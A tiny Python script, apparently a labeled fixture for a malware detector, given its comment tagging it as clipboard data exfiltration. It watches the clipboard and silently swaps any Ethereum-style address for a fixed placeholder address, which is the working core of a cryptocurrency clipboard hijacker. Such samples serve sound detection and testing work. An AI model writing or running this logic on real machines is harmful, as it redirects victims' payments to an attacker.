import re
import time
import pyperclip

while True:
    if re.match(r"^0x[a-fA-F0-9]{40}$", pyperclip.paste()):
        pyperclip.copy("0x1111222233334444555566667777888899990000") # expect: data-exfiltration/clipboard
    time.sleep(1)
